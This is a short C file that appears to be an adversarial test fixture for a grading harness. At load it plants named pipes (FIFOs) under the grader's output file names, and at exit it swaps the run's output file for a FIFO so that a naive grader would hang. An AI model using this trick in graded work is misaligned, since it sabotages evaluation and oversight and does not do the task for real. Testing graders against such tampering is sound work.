
/* ---- attack: leave FIFOs where the grader reads. shared_vs_private's
 * step 5 file (which the grader reads after the run) is replaced by a
 * FIFO at exit, and FIFOs are planted under the names of the grader's
 * files. A grader that opens them blocks for ever; this one must only
 * lose the check of that file. */
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

static pid_t attack_fifo_pid;

static void attack_fifo_at_exit(void)
{
	if (getpid() != attack_fifo_pid)
		return;
	if (access("file", F_OK) == 0) {
		unlink("file");
		mkfifo("file", 0666);
	}
}

__attribute__((constructor)) static void attack_plant_fifo(void)
{
	static const char *const names[] = {
		"src-4095", "src-4097", "src-1048577", "strace.log", "run.tsv", "run.out", "status",
		"stdout", "stderr", "tap",
	};
	size_t i;

	for (i = 0; i < sizeof names / sizeof names[0]; i++)
		mkfifo(names[i], 0666);
	attack_fifo_pid = getpid();
	atexit(attack_fifo_at_exit);
}
